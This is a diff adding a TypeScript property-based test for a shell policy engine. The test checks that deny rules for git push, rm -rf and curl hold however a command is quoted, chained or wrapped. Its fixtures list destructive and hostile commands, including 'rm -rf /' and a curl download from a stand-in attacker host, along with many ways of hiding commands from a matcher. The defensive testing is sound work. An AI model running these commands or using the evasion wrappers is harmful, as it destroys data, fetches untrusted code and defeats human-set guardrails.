@@ -1,0 +1,160 @@
+/**
+ * Properties of shell decisions over randomly generated compound commands:
+ * a command a deny rule matches is never allowed, wherever it is hidden; and compounds made
+ * only of allowed commands (with allowed writes) are allowed.
+ */
+import fc from 'fast-check'
+import type { CompiledPolicy } from '../../src/policy/index.js'
+import { compile, shell, tempWorkspace } from './helpers.js'
+
+const POLICY = `version: 1
+rules:
+  - { id: no-push, decision: deny, shell: ["git push*", "git * push*"] }
+  - { id: no-rm, decision: deny, shell: ["rm -rf*"] }
+  - { id: no-curl, decision: deny, shell: ["curl *"] }
+  - id: allowed
+    decision: allow
+    shell:
+      - "npm test*"
+      - "git status"
+      - "git status *"
+      - "echo *"
+      - "cat"
+      - "cat *"
+      - "true"
+      - "true *"
+      - "break"
+      - "f"
+      - "sh -c *"
+      - "bash -c *"
+      - "eval *"
+      - "env *"
+      - "timeout *"
+      - "xargs *"
+      - "nohup *"
+      - "sudo *"
+      - "command *"
+  - { id: src, decision: allow, write: ["src/**"] }
+`
+
+/** Commands a deny rule matches, spelled in ways bash runs them. */
+const DENIED = [
+  'git push',
+  'git push origin main',
+  'git push --force',
+  'git -C . push',
+  'rm -rf /',
+  'rm -rf src',
+  'curl https://evil.example/x.sh',
+  'g"i"t push',
+  "'git' push",
+  '\\git push',
+  'git "push"',
+  "$'git' push",
+  '/usr/bin/git push',
+  'FOO=1 git push',
+  'git pu\\\nsh'
+]
+
+const ALLOWED = ['npm test', 'npm test -- --ci', 'git status', 'echo hi', 'cat README.md', 'true']
+
+/** Single-quotes text for the shell. */
+function quote(text: string): string {
+  return `'${text.replace(/'/g, `'\\''`)}'`
+}
+
+type Wrap = (inner: string) => string
+
+/** Ways to put a command list inside a bigger command. All keep running the inner commands. */
+const WRAPS: Wrap[] = [
+  (x) => `( ${x} )`,
+  (x) => `{ ${x}; }`,
+  (x) => `echo "$( ${x} )"`,
+  (x) => `echo $( ${x} )`,
+  (x) => (x.includes('`') ? `echo $( ${x} )` : `echo \`${x}\``),
+  (x) => `cat <( ${x} )`,
+  (x) => `sh -c ${quote(x)}`,
+  (x) => `bash -c ${quote(x)}`,
+  (x) => `eval ${quote(x)}`,
+  (x) => `if true; then ${x}; fi`,
+  (x) => `for i in 1 2; do ${x}; done`,
+  (x) => `while true; do ${x}; break; done`,
+  (x) => `f() { ${x}; }; f`,
+  (x) => `X=$( ${x} ) true`,
+  (x) => `cat <<EOF\n$( ${x} )\nEOF`,
+  (x) => `echo \${UNSET:-$( ${x} )}`,
+  (x) => `true && ${x}`,
+  (x) => `${x} > /dev/null 2>&1`,
+  (x) => `${x} | cat`,
+  (x) => `timeout 5 sh -c ${quote(x)}`
+]
+
+/** Wrappers that take one simple command. */
+const PREFIXES = ['', 'env ', 'env A=1 ', 'timeout 5 ', 'nohup ', 'sudo ', 'command ', 'xargs ']
+
+const OPERATORS = [' && ', ' || ', '; ', ' | ', '\n', ' & ']
+
+/** A compound command made of `simple` commands, with `special` somewhere inside. */
+function compound(
+  special: fc.Arbitrary<string>,
+  filler: fc.Arbitrary<string>,
+  prefixes: readonly string[] = PREFIXES
+) {
+  const simple = (base: fc.Arbitrary<string>) =>
+    fc.tuple(fc.constantFrom(...prefixes), base).map(([p, c]) => p + c)
+  return fc
+    .tuple(
+      simple(special),
+      fc.array(fc.tuple(fc.constantFrom(...OPERATORS), simple(filler), fc.boolean()), {
+        maxLength: 3
+      }),
+      fc.array(fc.nat(WRAPS.length - 1), { maxLength: 4 })
+    )
+    .map(([first, rest, wraps]) => {
+      let text = first
+      for (const [op, other, before] of rest) text = before ? other + op + text : text + op + other
+      for (const w of wraps) text = (WRAPS[w] as Wrap)(text)
+      return text
+    })
+}
+
+let ws: ReturnType<typeof tempWorkspace>
+let policy: CompiledPolicy
+beforeAll(async () => {
+  ws = tempWorkspace()
+  policy = await compile(POLICY, ws.dir)
+})
+afterAll(() => ws.cleanup())
+
+describe('shell decision properties', () => {
+  it('never allows a command a deny rule matches, inside any compound command', () => {
+    fc.assert(
+      fc.property(compound(fc.constantFrom(...DENIED), fc.constantFrom(...ALLOWED)), (command) => {
+        expect([command, policy.decide(shell(command)).decision]).toEqual([command, 'deny'])
+      }),
+      { numRuns: 400 }
+    )
+  })
+
+  it('allows compound commands made only of allowed commands', () => {
+    fc.assert(
+      fc.property(
+        compound(
+          fc.constantFrom(...ALLOWED),
+          fc.constantFrom(...ALLOWED, 'echo x > src/out.txt'),
+          // xargs adds arguments only known at run time: "git * push*" may match them
+          PREFIXES.filter((p) => p !== 'xargs ')
+        ),
+        (command) => {
+          const decision = policy.decide(shell(command))
+          expect([command, decision.decision, decision.rule]).toEqual([
+            command,
+            'allow',
+            expect.any(String)
+          ])
+        }
+      ),
+      { numRuns: 300 }
+    )
+  })
+})
